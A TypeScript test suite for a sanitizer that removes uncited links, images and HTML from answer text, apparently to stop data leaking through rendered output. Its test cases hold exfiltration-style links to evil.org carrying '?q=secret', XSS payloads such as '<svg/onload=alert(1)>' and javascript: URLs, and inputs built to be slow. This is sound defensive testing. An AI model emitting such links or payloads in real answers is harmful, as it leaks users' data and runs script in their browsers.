import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { safeAnswerText } from "./safe-answer-text.js";

const cited = ["https://good.org/a_(b)", "https://good.org/x?y=1&z=2", "docs/my file.md", "javascript:alert(1)"];
const safe = (text: string): string => safeAnswerText(text, cited).text;

describe("safeAnswerText", () => {
  it.each([
    "[label](https://good.org/a_(b))",
    '[label](<docs/my file.md> "title")',
    "![image](https://good.org/x?y=1&z=2)",
    "see https://good.org/a_(b), and (https://good.org/x?y=1&z=2).",
    "<https://good.org/a_(b)#page=3>",
    "[label][one]\n\n[one]: https://good.org/a_(b)",
    '<a href="https://good.org/x?y=1&amp;z=2">label</a>',
    "a < b, List<string>, <b>bold</b>, x[1][2], [E1][E2], [^1]: a note, e@mail.org, std::map, vector<std::string>",
    "JavaScript: The Good Parts; data: five; f(x)",
    "Amazon.com, Inc. and Booking.com; Node.js/Express, and/or, 24/7, U.S./U.K., 3.5/4.5, i.e. St. John, v1.2.3, a.m./p.m., // no",
    "[E1]: what it says",
    "",
  ])("leaves %j", (text) => {
    expect(safeAnswerText(text, cited)).toEqual({ text, notes: [] });
  });

  it.each([
    ["[label](https://evil.org)", "label"],
    ["![alt](https://evil.org/?q=secret)", "alt"],
    ["[![alt](https://evil.org/i)](https://evil.org/l)", "alt"],
    ["[a [b] c](//evil.org 'title') d", "a [b] c d"],
    ["[label](javascript:alert(1))", "label"],
    ["[label]( <https://evil.org/a b> )", "label"],
    ["[label](https://good.org/a_(b)/../evil)", "label"],
    ["[a`]`](evil)", "[a`]`"],
    [
      "[label][one] and ![i][one] and [one][]\n\n[one]: https://evil.org 'title'",
      "label and i and one\n\none: (link removed) 'title'",
    ],
    ["> - [one]: <evil>", "> - one: evil"],
    ['<a href="https://evil.org" onclick=x>label</a>', "label"],
    ['<a href="https://good.org/a_(b)" onclick=x>label</a>', '<a href="https://good.org/a_(b)">label</a>'],
    ['<a data-href="https://good.org/a_(b)" href=//evil>label</a>', "label"],
    ["<img src=//evil alt='the alt'>", "the alt"],
    ["<IMG SRC=//evil", ""],
    ["<script>alert(1)</script>", "alert(1)"],
    ["<b onclick=alert(1)>bold</b>", "bold</b>"],
    ["<svg/onload=alert(1)>", ""],
    ["go to https://evil.org/x?q=1.", "go to (link removed)."],
    ["go to www.evil.org!", "go to (link removed)!"],
    ["<https://evil.org> <javascript:alert(1)>", "(link removed) (link removed)"],
    ["javascript:alert(1) data:text/html,x data:;base64,x", "(link removed) (link removed) (link removed)"],
    ["[a][](x)(https://evil.org)", "a"],
    ["https://good.org.evil.org https://good.org/a_(b)x", "(link removed) (link removed)"],
    // found by the attack set: renderers that guess, fragments that carry the question to a cited site
    ["go to evil.example.com/c?q=secret now", "go to (link removed) now"],
    ["go to secret.evil.example.com.", "go to (link removed)."],
    ["go to //evil.example.com/c?q=1 now", "go to (link removed) now"],
    ["//evil.com/x) of [a](", "(link removed)) of [a]("],
    ["[label](https://good.org/a_(b)#the-whole-question)", "label"],
  ])("makes %j into %j", (text, expected) => {
    const { text: found, notes } = safeAnswerText(text, cited);
    expect(found).toBe(expected);
    if (!text.includes('good.org/a_(b)" onclick')) expect(notes[0]).toMatchObject({ code: "link-removed" });
  });

  it("names each target that it removed", () => {
    const { notes } = safeAnswerText(`[a](https://one) https://two <img src=${"x".repeat(300)}>`, []);
    expect(notes.map(({ detail }) => String(detail!.target).length)).toEqual([200, 11, 11]);
  });

  it("leaves no link behind, however links are nested, and does nothing twice", () => {
    const bit = fc.constantFrom(
      ..."[]()<>!\\ \n:a\"'/`",
      "](",
      "[",
      "https://evil.org",
      "//evil",
      "<a href=",
      "</a>",
      "<img src=",
      "[r]",
      "[r]: ",
      "javascript:x",
      "www.",
      "https://good.org/a_(b)",
      "[ok](https://good.org/a_(b))",
    );
    fc.assert(
      fc.property(
        fc.array(bit, { maxLength: 30 }).map((bits) => bits.join("")),
        (text) => {
          const once = safe(text);
          expect(once).not.toMatch(
            /https?:\/\/(?!good\.org\/a_\(b\))|<img (?!src="https:\/\/good\.org\/a_\(b\))|javascript:x|www\.\w/i,
          );
          expect(once).not.toMatch(/<a (?!href="https:\/\/good\.org\/a_\(b\)[#"])/i);
          expect(safeAnswerText(once, cited)).toEqual({ text: once, notes: [] });
        },
      ),
      { numRuns: 2000 },
    );
  });

  it("takes linear time on text made to be slow", () => {
    for (const unit of [
      "[",
      "](",
      "[a](",
      "[a](<",
      "<a ",
      "![",
      "[a]: ",
      "\n[a",
      "(",
      '[a](b "',
      "> - ",
      "[a][b]",
      "www.",
      "data:a",
      "a:",
      "1) ",
      "a.",
      "//a.",
      "a.com/",
    ]) {
      expect(typeof safe(unit.repeat(20_000))).toBe("string");
    }
  });
});
